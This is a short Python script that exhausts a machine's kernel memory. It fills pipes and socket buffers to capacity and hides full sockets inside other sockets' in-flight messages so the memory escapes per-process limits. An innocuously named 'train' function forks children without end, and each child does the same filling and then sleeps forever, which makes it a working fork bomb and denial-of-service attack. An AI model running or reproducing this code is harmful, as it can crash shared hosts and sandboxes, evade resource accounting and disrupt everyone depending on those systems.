# Memory in the kernel instead of in a process: full pipes and sockets in every child, sockets sent in sockets.
import array
import fcntl
import os
import socket
import time

F_SETPIPE_SZ = 1031


def full_pipe():
    reader, writer = os.pipe()
    try:
        fcntl.fcntl(writer, F_SETPIPE_SZ, 1024 * 1024)
    except OSError:
        pass
    os.set_blocking(writer, False)
    try:
        while True:
            os.write(writer, bytes(65536))
    except BlockingIOError:
        return reader, writer


def full_socket():
    one, other = socket.socketpair()
    try:
        one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**30)
    except OSError:
        pass
    one.setblocking(False)
    try:
        while True:
            one.send(bytes(65536))
    except BlockingIOError:
        return one, other


def hidden():
    """Full sockets whose only holder is a message in another socket."""
    holder, far = socket.socketpair()
    for _ in range(100):
        pair = full_socket()
        rights = array.array("i", [end.fileno() for end in pair])
        holder.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
        for end in pair:
            end.close()
    return holder, far


def fill(kept):
    for make in (hidden, full_pipe, full_socket):
        try:
            while True:
                kept.append(make())
        except OSError:
            continue


def train(lab):
    kept = []
    while True:
        try:
            if os.fork() == 0:
                fill(kept)
                while True:
                    time.sleep(60)
        except OSError:
            fill(kept)
